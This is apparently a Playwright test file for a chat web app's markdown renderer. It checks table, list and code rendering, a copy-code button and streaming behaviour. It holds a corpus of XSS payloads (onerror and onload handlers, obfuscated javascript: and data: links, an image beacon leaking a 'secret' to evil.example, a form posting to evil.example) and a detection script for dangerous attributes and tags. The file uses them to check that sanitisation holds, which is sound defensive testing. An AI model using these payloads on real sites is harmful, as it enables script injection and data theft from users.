"""Markdown in real headless Chromium: markdown-it, DOMPurify and highlight.js as vendored under
static/vendor/, the XSS corpus through the renderer and through a streamed reply, code copy,
and streaming that re-renders only the reply being written."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import expect

from tests.pages import open_page, send, set_max_new_tokens, wait_reply

RENDER = """(text) => { const d = document.createElement('div'); d.id = 'probe';
    d.appendChild(window.MnemoMarkdown.render(text)); document.body.appendChild(d);
    return d.innerHTML; }"""

RICH = """| a | b |
|---|--:|
| 1 | **2** |

- one
  - nested *two*
    1. deep
- three

> quoted
> > twice

```python
def f(x):
    return "s" + x  # note
```

See [docs](https://example.org/a?b=1) and https://auto.example.org/x and `inline`.
"""


def test_markdown_renders_tables_lists_quotes_and_highlighted_code(context, live):
    page = open_page(context, live.url)
    page.evaluate(RENDER, RICH)
    probe = page.locator("#probe")
    expect(probe.locator("table th")).to_have_count(2)
    expect(probe.locator("table td").nth(1)).to_have_text("2")
    assert probe.locator("ul ul li").first.inner_text().startswith("nested two")
    expect(probe.locator("ul ul ol li")).to_have_text("deep")
    expect(probe.locator("blockquote blockquote")).to_contain_text("twice")
    code = probe.locator(".code-block pre code.language-python.hljs")
    expect(code.locator(".hljs-keyword").first).to_have_text("def")
    expect(code.locator(".hljs-string").first).to_have_text('"s"')
    expect(probe.locator(".code-head")).to_contain_text("python")
    expect(probe.get_by_role("button", name="Copy code (python)")).to_be_visible()
    for link in probe.locator("a").all():
        assert link.get_attribute("target") == "_blank"
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert probe.locator("a").nth(1).get_attribute("href") == "https://auto.example.org/x"
    # Alignment would need inline style, which the page's CSP forbids: no style attributes.
    assert probe.locator("[style]").count() == 0
    assert page.errors == []


CORPUS = [
    '<img src=x onerror="window.__xss=1">',
    "<script>window.__xss=2</script>",
    "[x](javascript:window.__xss=3)",
    "[x](JaVaScRiPt:window.__xss=3)",
    "[x](  javascript:window.__xss=3 )",
    "[x](&#106;avascript:window.__xss=3)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MzwvcHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<javascript:window.__xss=3>",
    '[x](https://e.org" onmouseover="window.__xss=4)',
    "![pixel](https://evil.example/leak.png?q=secret)",
    "![x](javascript:window.__xss=5)",
    '![x](x" onerror="window.__xss=5)',
    '<a href="javascript:window.__xss=6">raw link</a>',
    "<svg onload=window.__xss=7><circle/></svg>",
    '<iframe src="javascript:window.__xss=8"></iframe>',
    "<details open ontoggle=window.__xss=9><summary>x</summary></details>",
    "<style>body{display:none}</style>",
    '```"><img src=x onerror=window.__xss=10>\ncode\n```',
    "```js onload=window.__xss=11\nlet a = 1;\n```",
    '<div>\n\n<img src=x onerror="window.__xss=12">\n\n</div>',
    "[x]: javascript:window.__xss=13\n\n[ref][x]",
    '<form action="https://evil.example"><button>go</button></form>',
]
BAD = """() => { const bad = [];
    for (const n of document.querySelectorAll('.msg *, #probe *')) {
      for (const a of n.attributes) {
        if (/^on/i.test(a.name) || a.name === 'style') bad.push(n.tagName + ' ' + a.name);
      }
      if (/^(IMG|SCRIPT|IFRAME|SVG|STYLE|FORM|OBJECT|EMBED)$/i.test(n.tagName)) bad.push(n.tagName);
      const href = n.tagName === 'A' ? n.getAttribute('href') || 'https:' : 'https:';
      if (!/^(https?:|mailto:)/i.test(href)) bad.push('href ' + href);
    }
    return bad; }"""


@pytest.mark.parametrize("payload", CORPUS)
def test_xss_corpus_through_the_renderer(context, live, payload):
    page = open_page(context, live.url)
    page.evaluate(RENDER, payload)
    page.locator("#probe").hover()
    page.wait_for_timeout(50)
    assert page.evaluate("window.__xss") is None
    assert page.evaluate(BAD) == []


def test_xss_corpus_as_a_streamed_reply_and_as_user_text(context, live):
    page = open_page(context, live.url)
    text = "\n\n".join(CORPUS)
    send(page, text)
    wait_reply(page, 2)
    assert page.locator(".msg.user .body").inner_text() == text  # user text stays text
    events = "".join(f"event: delta\ndata: {json.dumps({'content': part + chr(10)})}\n\n"
                     for part in text.split("\n"))
    done = {"message": {"role": "assistant", "content": text}, "finish_reason": "stop",
            "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
            "history": {"received": 1, "used": 1, "dropped": 0}}
    page.route("**/api/chat", lambda route: route.fulfill(
        status=200, content_type="text/event-stream",
        body=events + f"event: done\ndata: {json.dumps(done)}\n\n"))
    send(page, "again")
    wait_reply(page, 4)
    page.locator(".msg.assistant").nth(1).hover()
    page.wait_for_timeout(200)
    assert page.evaluate("window.__xss") is None
    assert page.evaluate(BAD) == []
    assert page.errors == []


def test_copy_button_copies_the_code(browser, live):
    ctx = browser.new_context()
    ctx.grant_permissions(["clipboard-read", "clipboard-write"], origin=live.url)
    try:
        page = open_page(ctx, live.url)
        reply = "Here:\n\n```js\nconst answer = 42;\n```\n"
        done = {"message": {"role": "assistant", "content": reply}, "finish_reason": "stop",
                "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
                "history": {"received": 1, "used": 1, "dropped": 0}}
        page.route("**/api/chat", lambda route: route.fulfill(
            status=200, content_type="text/event-stream",
            body=f"event: done\ndata: {json.dumps(done)}\n\n"))
        send(page, "code please")
        wait_reply(page, 2)
        page.get_by_role("button", name="Copy code (js)").click()
        page.wait_for_function(
            "async () => (await navigator.clipboard.readText()) === 'const answer = 42;\\n'")
    finally:
        ctx.close()


def test_streaming_rerenders_only_the_reply_being_written(context, live, app, hold):
    page = open_page(context, live.url)
    send(page, "first")
    wait_reply(page, 2)
    held = hold(app)
    set_max_new_tokens(page, 40)
    send(page, "second")
    page.wait_for_function("() => document.querySelectorAll('.msg').length === 4 && "
                           "document.querySelectorAll('.msg .body')[3].textContent.length > 3")
    # Tag every message's nodes mid-stream: a re-render of the conversation would replace them.
    page.evaluate("document.querySelectorAll('.msg .body').forEach((n) => { n.__kept = true; })")
    growing = page.evaluate("document.querySelectorAll('.msg .body')[3].textContent.length")
    assert page.get_attribute(".msg.assistant >> nth=1", "aria-busy") == "true"
    held.allow(8)  # the reply grows by eight steps, and is held again, still streaming
    page.wait_for_function(f"() => document.querySelectorAll('.msg .body')[3].textContent.length > {growing}")
    assert page.get_attribute(".msg.assistant >> nth=1", "aria-busy") == "true"
    assert page.evaluate("[...document.querySelectorAll('.msg .body')].slice(0, 3).every((n) => n.__kept)")
    held.release()
    wait_reply(page, 4)
    assert page.get_attribute(".msg.assistant >> nth=1", "aria-busy") is None
